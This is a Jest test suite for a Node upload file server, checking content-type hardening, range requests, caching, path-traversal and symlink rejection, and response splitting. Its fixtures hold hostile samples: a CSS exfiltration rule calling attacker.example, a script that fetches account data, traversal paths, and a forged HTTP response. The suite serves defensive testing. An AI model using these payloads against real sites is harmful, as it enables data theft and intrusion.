import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import { Socket, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { resolveOptions } from '../reflex-bridge.options.js';
import { UploadedFileServer } from './uploaded-file-server.js';

const PREFIX = '/_upload/';

let root: string;
let directory: string;
let server: Server;
let port: number;

interface Reply {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: Buffer;
}

/** A raw request, so paths reach the server exactly as written (no client-side normalisation of `..`). */
function get(path: string, method = 'GET', headers: Record<string, string> = {}): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method, path, headers, agent: false }, (res) => {
      const data: Buffer[] = [];
      res.on('data', (d: Buffer) => data.push(d));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(data) }));
    });
    req.on('error', reject);
    req.end();
  });
}

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'uploaded-file-server-spec-'));
  directory = join(root, 'uploaded_files');
  mkdirSync(join(directory, 'photos'), { recursive: true });
  writeFileSync(join(directory, 'photos', 'cat.png'), 'png!');
  writeFileSync(join(directory, 'report.pdf'), '%PDF-1.4');
  writeFileSync(join(directory, 'page.html'), '<script>alert(1)</script>');
  writeFileSync(join(directory, 'evil.js'), 'fetch("/account").then((r) => r.text()).then(steal)');
  writeFileSync(join(directory, 'evil.mjs'), 'export default steal()');
  writeFileSync(join(directory, 'evil.css'), 'input[value^="a"] { background: url(https://attacker.example/a) }');
  writeFileSync(join(directory, 'space name.txt'), 'spaced');
  writeFileSync(join(directory, 'empty.txt'), '');
  writeFileSync(join(directory, 'big.bin'), Buffer.alloc(3_000_000, 1));
  writeFileSync(join(root, 'secret.txt'), 'outside');
  mkdirSync(join(root, 'uploaded_files_evil'));
  writeFileSync(join(root, 'uploaded_files_evil', 'x.txt'), 'sibling');
  symlinkSync(join(root, 'secret.txt'), join(directory, 'link-out.txt'));
  symlinkSync(join(directory, 'photos', 'cat.png'), join(directory, 'link-in.png'));
  symlinkSync(root, join(directory, 'dir-out'));
  execFileSync('mkfifo', [join(directory, 'fifo')]);
  const files = new UploadedFileServer(resolveOptions({ uploads: { directory } }));
  server = createServer((req, res) => {
    const url = req.url ?? '';
    if (!url.startsWith(PREFIX)) {
      res.statusCode = 400;
      res.end();
      return;
    }
    void files.serve(req, res, url.slice(PREFIX.length));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  rmSync(root, { recursive: true, force: true });
});

describe('UploadedFileServer', () => {
  it('serves a stored file as a download, with nosniff and its content type', async () => {
    const reply = await get('/_upload/photos/cat.png');
    expect(reply.status).toBe(200);
    expect(reply.body.toString()).toBe('png!');
    expect(reply.headers['content-type']).toBe('image/png');
    expect(reply.headers['content-length']).toBe('4');
    expect(reply.headers['x-content-type-options']).toBe('nosniff');
    expect(reply.headers['content-disposition']).toBe('attachment');
  });

  it('serves PDFs inline, and HTML only as a download', async () => {
    const pdf = await get('/_upload/report.pdf');
    expect(pdf.status).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toBeUndefined();
    expect(pdf.headers['x-content-type-options']).toBe('nosniff');
    const html = await get('/_upload/page.html');
    expect(html.headers['content-disposition']).toBe('attachment');
    expect(html.headers['x-content-type-options']).toBe('nosniff');
  });

  it('serves scripts and style sheets as plain text, so a page of the origin cannot load one as its script or style', async () => {
    // A script or style sheet stored by a user and served from the app's origin with its executable type is a
    // subresource any HTML injection can pull in past a \`script-src 'self'\` CSP (or register as a service worker):
    // Content-Disposition and the response's own CSP do not stop <script src>. With nosniff, browsers refuse to run
    // or apply a text/plain file.
    for (const path of ['/_upload/evil.js', '/_upload/evil.mjs', '/_upload/evil.css']) {
      const reply = await get(path);
      expect([path, reply.status, reply.headers['content-type'], reply.headers['x-content-type-options']]).toEqual([path, 200, 'text/plain; charset=utf-8', 'nosniff']);
      expect(reply.headers['content-disposition']).toBe('attachment');
    }
  });

  it('decodes percent-encoded names, ignores a query, and streams large files whole', async () => {
    expect((await get('/_upload/space%20name.txt?v=2')).body.toString()).toBe('spaced');
    const empty = await get('/_upload/empty.txt');
    expect([empty.status, empty.headers['content-length'], empty.body.length]).toEqual([200, '0', 0]);
    const big = await get('/_upload/big.bin');
    expect(big.status).toBe(200);
    expect(big.body.length).toBe(3_000_000);
    expect(big.headers['content-type']).toBe('application/octet-stream');
  });

  it('answers HEAD with the headers only, and other methods with 405', async () => {
    const head = await get('/_upload/photos/cat.png', 'HEAD');
    expect(head.status).toBe(200);
    expect(head.headers['content-length']).toBe('4');
    expect(head.body.length).toBe(0);
    expect((await get('/_upload/photos/cat.png', 'DELETE')).status).toBe(405);
  });

  describe('ranges and conditional requests', () => {
    it('says it takes ranges, and gives validators that a browser must check before it reuses its copy', async () => {
      const reply = await get('/_upload/photos/cat.png');
      expect(reply.headers['accept-ranges']).toBe('bytes');
      expect(reply.headers['etag']).toMatch(/^"[0-9a-f]+-[0-9a-f]+"$/);
      expect(reply.headers['last-modified']).toEqual(expect.any(String));
      expect(reply.headers['cache-control']).toBe('private, no-cache');
    });

    it('answers one range with 206 and exactly its bytes, keeping every protective header', async () => {
      const part = await get('/_upload/page.html', 'GET', { range: 'bytes=1-6' });
      expect(part.status).toBe(206);
      expect(part.headers['content-range']).toBe('bytes 1-6/25');
      expect(part.headers['content-length']).toBe('6');
      expect(part.body.toString()).toBe('script');
      expect(part.headers['content-type']).toBe('text/html; charset=utf-8');
      expect(part.headers['content-disposition']).toBe('attachment');
      expect(part.headers['content-security-policy']).toMatch(/sandbox$/);
      expect(part.headers['x-content-type-options']).toBe('nosniff');
      const script = await get('/_upload/evil.js', 'GET', { range: 'bytes=0-4' });
      expect([script.status, script.headers['content-type'], script.body.toString()]).toEqual([206, 'text/plain; charset=utf-8', 'fetch']);
      const tail = await get('/_upload/big.bin', 'GET', { range: 'bytes=1000000-' });
      expect([tail.status, tail.headers['content-range'], tail.body.length]).toEqual([206, 'bytes 1000000-2999999/3000000', 2_000_000]);
      const suffix = await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=-3' });
      expect([suffix.status, suffix.body.toString()]).toEqual([206, 'ng!']);
      const head = await get('/_upload/big.bin', 'HEAD', { range: 'bytes=0-9' });
      expect([head.status, head.headers['content-length'], head.headers['content-range'], head.body.length]).toEqual([206, '10', 'bytes 0-9/3000000', 0]);
    });

    it('answers a range that starts past the end with 416 and the size', async () => {
      const reply = await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=4-' });
      expect(reply.status).toBe(416);
      expect(reply.headers['content-range']).toBe('bytes */4');
      expect(reply.headers['x-content-type-options']).toBe('nosniff');
      expect(JSON.parse(reply.body.toString())).toMatchObject({ code: 'range_not_satisfiable' });
    });

    it('answers several distinct ranges with the whole file', async () => {
      const reply = await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=0-0,2-3' });
      expect([reply.status, reply.headers['content-range'], reply.body.toString()]).toEqual([200, undefined, 'png!']);
    });

    it('applies a range under If-Range only while the file is the one the client had', async () => {
      const { headers } = await get('/_upload/photos/cat.png');
      const etag = headers['etag'] as string;
      const lastModified = headers['last-modified'] as string;
      expect((await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=1-', 'if-range': etag })).status).toBe(206);
      expect((await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=1-', 'if-range': lastModified })).status).toBe(206);
      expect((await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=1-', 'if-range': '"other"' })).status).toBe(200);
      expect((await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=1-', 'if-range': `W/${etag}` })).status).toBe(200);
      expect((await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=1-', 'if-range': 'Thu, 01 Jan 1970 00:00:00 GMT' })).status).toBe(200);
      expect((await get('/_upload/photos/cat.png', 'GET', { range: 'bytes=1-', 'if-range': 'garbage' })).status).toBe(200);
    });

    it('answers 304 to a client whose copy is current, and the file to a reload or a stale copy', async () => {
      const { headers } = await get('/_upload/photos/cat.png');
      const etag = headers['etag'] as string;
      const notModified = await get('/_upload/photos/cat.png', 'GET', { 'if-none-match': etag });
      expect(notModified.status).toBe(304);
      expect(notModified.body.length).toBe(0);
      expect(notModified.headers['etag']).toBe(etag);
      expect(notModified.headers['cache-control']).toBe('private, no-cache');
      expect(notModified.headers['x-content-type-options']).toBe('nosniff');
      expect((await get('/_upload/photos/cat.png', 'HEAD', { 'if-none-match': `"x", W/${etag}` })).status).toBe(304);
      expect((await get('/_upload/photos/cat.png', 'GET', { 'if-modified-since': headers['last-modified'] as string })).status).toBe(304);
      expect((await get('/_upload/photos/cat.png', 'GET', { 'if-none-match': '"other"' })).status).toBe(200);
      expect((await get('/_upload/photos/cat.png', 'GET', { 'if-modified-since': 'Thu, 01 Jan 1970 00:00:00 GMT' })).status).toBe(200);
      expect((await get('/_upload/photos/cat.png', 'GET', { 'if-none-match': etag, 'cache-control': 'no-cache' })).status).toBe(200);
      // Another file never matches this one's tag.
      expect((await get('/_upload/report.pdf', 'GET', { 'if-none-match': etag })).status).toBe(200);
    });

    it('answers any Range header with the file, a part of it or 416, never a failure', async () => {
      const hostile = [
        'bytes=-', 'bytes=--1', 'bytes=-1-2', 'bytes=5-1', 'bytes=1-2,', 'bytes=,', 'bytes=,,,,', 'bytes= ', 'bytes=\t0-1',
        'bytes=99999999999999999999999999999-', 'bytes=0-99999999999999999999999999999', `bytes=${'9'.repeat(5000)}-`,
        `bytes=${Array.from({ length: 300 }, (_, i) => `${i}-${i + 2}`).join(',')}`, `bytes=${'0-0,'.repeat(2000)}0-0`,
        'bytes=0-1;2-3', 'bytes=0.5-1', 'bytes=1e2-', 'bytes=0x0-1', 'bytes=NaN-', 'bytes=-Infinity', '=0-1', 'bytes', 'x'.repeat(8000),
      ];
      for (const range of hostile) {
        const reply = await get('/_upload/photos/cat.png', 'GET', { range });
        expect([range, [200, 206, 416].includes(reply.status)]).toEqual([range, true]);
        if (reply.status === 206) {
          const [, start, end, size] = /^bytes (\d+)-(\d+)\/(\d+)$/.exec(reply.headers['content-range'] as string)!.map(Number);
          expect([start! <= end!, end! < size!, reply.body.length]).toEqual([true, true, end! - start! + 1]);
        }
      }
      expect((await get('/_upload/photos/cat.png')).status).toBe(200);
    });
  });

  it('follows a symlink that stays inside the directory', async () => {
    expect((await get('/_upload/link-in.png')).body.toString()).toBe('png!');
  });

  it.each([
    ['a missing file', '/_upload/nope.txt'],
    ['a directory', '/_upload/photos'],
    ['a directory with a trailing slash', '/_upload/photos/'],
    ['the directory itself', '/_upload/'],
    ['a .. segment', '/_upload/../secret.txt'],
    ['a nested .. segment', '/_upload/photos/../../secret.txt'],
    ['an encoded ..', '/_upload/%2e%2e/secret.txt'],
    ['an upper-case encoded ..', '/_upload/%2E%2E/secret.txt'],
    ['an encoded slash', '/_upload/..%2fsecret.txt'],
    ['an encoded backslash', '/_upload/..%5csecret.txt'],
    ['a double-encoded ..', '/_upload/%252e%252e/secret.txt'],
    ['a sibling directory with the same prefix', '/_upload/../uploaded_files_evil/x.txt'],
    ['a NUL', '/_upload/photos/cat.png%00.txt'],
    ['a control character', '/_upload/photos/cat%0a.png'],
    ['malformed percent-encoding', '/_upload/%e0%a4%a.txt'],
    ['a . segment', '/_upload/./photos/cat.png'],
    ['an empty segment', '/_upload/photos//cat.png'],
    ['a symlink out of the directory', '/_upload/link-out.txt'],
    ['a path through a symlinked directory out of it', '/_upload/dir-out/secret.txt'],
    ['a FIFO', '/_upload/fifo'],
  ])('answers 404 for %s', async (_what, path) => {
    const reply = await get(path);
    expect(reply.status).toBe(404);
    expect(reply.headers['x-content-type-options']).toBe('nosniff');
    expect(JSON.parse(reply.body.toString())).toEqual({ detail: 'Not Found', code: 'upload_not_found' });
  });

  describe('a file that changes while it is sent', () => {
    /** Far more than the socket buffers take: the server is still reading the file when it changes. */
    const SIZE = 32 * 1024 * 1024;

    /**
     * Asks for `name` and, once the first bytes arrived (the size is then fixed in the headers), runs `change`, then
     * reads to the end. `then` is a second request pipelined behind the first.
     */
    function fetchWhileChanging(name: string, change: () => void, then: string, range?: string): Promise<{ contentLength: number; bodyBytes: number; bodyHoldsAnAnswer: boolean; rest: string }> {
      return new Promise((resolve, reject) => {
        const client = new Socket();
        const chunks: Buffer[] = [];
        client.on('error', reject);
        client.once('data', () => {
          client.pause();
          change();
          client.resume();
        });
        client.on('data', (chunk: Buffer) => chunks.push(chunk));
        client.on('close', () => {
          const all = Buffer.concat(chunks);
          const headEnd = all.indexOf('\r\n\r\n');
          const contentLength = Number(/content-length: (\d+)/i.exec(all.subarray(0, headEnd).toString())![1]);
          const body = all.subarray(headEnd + 4);
          const ownBody = body.subarray(0, contentLength);
          resolve({ contentLength, bodyBytes: ownBody.length, bodyHoldsAnAnswer: ownBody.includes('HTTP/1.1'), rest: body.subarray(contentLength).toString('latin1') });
        });
        client.connect(port, '127.0.0.1', () => {
          client.write(`GET /_upload/${name} HTTP/1.1\r\nHost: x\r\n${range ? `Range: ${range}\r\n` : ''}\r\n${then}`);
        });
      });
    }

    it('never sends more bytes than its Content-Length, which the client would read as the next answer', async () => {
      writeFileSync(join(directory, 'growing.bin'), Buffer.alloc(SIZE, 1));
      const forged = 'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>';
      const reply = await fetchWhileChanging('growing.bin', () => appendFileSync(join(directory, 'growing.bin'), forged), 'GET /_upload/photos/cat.png HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
      expect(reply.contentLength).toBe(SIZE);
      expect(reply.bodyBytes).toBe(SIZE);
      expect(reply.bodyHoldsAnAnswer).toBe(false);
      // What follows the body is the pipelined request's own answer, and nothing of the file.
      expect(reply.rest).not.toContain('<script>');
      expect(reply.rest).toMatch(/^HTTP\/1\.1 200 OK\r\n[\s\S]*png!$/);
    });

    it('closes the connection when the file ends before its Content-Length, so no later answer is read as its body', async () => {
      writeFileSync(join(directory, 'shrinking.bin'), Buffer.alloc(SIZE, 1));
      const reply = await fetchWhileChanging('shrinking.bin', () => truncateSync(join(directory, 'shrinking.bin'), 1024), 'GET /_upload/photos/cat.png HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
      expect(reply.contentLength).toBe(SIZE);
      expect(reply.bodyBytes).toBeLessThan(SIZE);
      // The pipelined request's answer never arrives to be taken for the rest of the file.
      expect(reply.bodyHoldsAnAnswer).toBe(false);
      expect(reply.rest).toBe('');
    });
    it('sends a range exactly, and closes the connection when the file ends before the range does', async () => {
      writeFileSync(join(directory, 'growing-range.bin'), Buffer.alloc(SIZE, 1));
      const forged = 'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>';
      const then = 'GET /_upload/photos/cat.png HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n';
      const grown = await fetchWhileChanging('growing-range.bin', () => appendFileSync(join(directory, 'growing-range.bin'), forged), then, `bytes=1024-`);
      expect([grown.contentLength, grown.bodyBytes, grown.bodyHoldsAnAnswer]).toEqual([SIZE - 1024, SIZE - 1024, false]);
      expect(grown.rest).toMatch(/^HTTP\/1\.1 200 OK\r\n[\s\S]*png!$/);
      writeFileSync(join(directory, 'shrinking-range.bin'), Buffer.alloc(SIZE, 1));
      const shrunk = await fetchWhileChanging('shrinking-range.bin', () => truncateSync(join(directory, 'shrinking-range.bin'), 2048), then, 'bytes=1024-');
      expect(shrunk.contentLength).toBe(SIZE - 1024);
      expect(shrunk.bodyBytes).toBeLessThan(SIZE - 1024);
      expect([shrunk.bodyHoldsAnAnswer, shrunk.rest]).toEqual([false, '']);
    });
  });

  it('answers 404 while the directory does not exist yet, and serves once it does', async () => {
    const later = join(root, 'later');
    const files = new UploadedFileServer(resolveOptions({ uploads: { directory: later } }));
    const local = createServer((req, res) => void files.serve(req, res, (req.url ?? '').slice(PREFIX.length)));
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve));
    const localPort = (local.address() as AddressInfo).port;
    const fetchStatus = async (): Promise<number> => (await fetch(`http://127.0.0.1:${localPort}/_upload/a.txt`)).status;
    try {
      expect(await fetchStatus()).toBe(404);
      mkdirSync(later);
      writeFileSync(join(later, 'a.txt'), 'a');
      expect(await fetchStatus()).toBe(200);
    } finally {
      local.closeAllConnections();
      await new Promise((resolve) => local.close(resolve));
    }
  });

  it('answers 404 for everything when uploads are off', async () => {
    const files = new UploadedFileServer(resolveOptions({ uploads: false }));
    const local = createServer((req, res) => void files.serve(req, res, 'photos/cat.png'));
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve));
    try {
      expect((await fetch(`http://127.0.0.1:${(local.address() as AddressInfo).port}/x`)).status).toBe(404);
    } finally {
      local.closeAllConnections();
      await new Promise((resolve) => local.close(resolve));
    }
  });
});
